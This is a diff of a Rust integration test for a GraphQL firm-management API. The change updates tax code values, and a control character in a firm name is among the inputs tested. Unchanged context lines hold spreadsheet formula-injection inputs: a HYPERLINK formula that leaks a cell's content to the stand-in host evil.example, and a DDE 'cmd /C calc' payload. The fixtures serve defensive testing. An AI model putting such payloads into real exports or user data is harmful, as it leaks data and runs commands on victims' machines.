@@ -233,7 +233,7 @@ on_both_databases!(
             Some(&admin),
             "mutation($id: ID!, $i: FirmFields!) { updateFirm(id: $id, input: $i) { id } }",
             json!({ "id": firm, "i": { "name": "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Xem\")",
-                "taxCode": "0101234567", "address": "-2+3+cmd|' /C calc'!A0" } }),
+                "taxCode": "0101234565", "address": "-2+3+cmd|' /C calc'!A0" } }),
         )
         .await
         .ok();
@@ -529,7 +529,7 @@ on_both_databases!(
         let (admin, _) = app.login_as("ops@dongsoc.example").await;
         let create = "mutation($i: FirmFields!) { createFirm(input: $i) { id name } }";
         let firm = |name: &str| {
-            json!({ "i": { "name": name, "taxCode": "2501234567", "isSme": true,
+            json!({ "i": { "name": name, "taxCode": "2501234563", "isSme": true,
                 "capitalOrigin": "DOMESTIC", "workforce": 5, "address": "Phú Thọ" } })
         };
         let before = app.snapshot().await;
@@ -542,7 +542,7 @@ on_both_databases!(
         let literal = app
             .graphql(
                 Some(&admin),
-                r#"mutation { createFirm(input: { name: "A\u000bB", taxCode: "2501234567",
+                r#"mutation { createFirm(input: { name: "A\u000bB", taxCode: "2501234563",
                    isSme: true, capitalOrigin: DOMESTIC, workforce: 5 }) { id } }"#,
                 json!({}),
             )
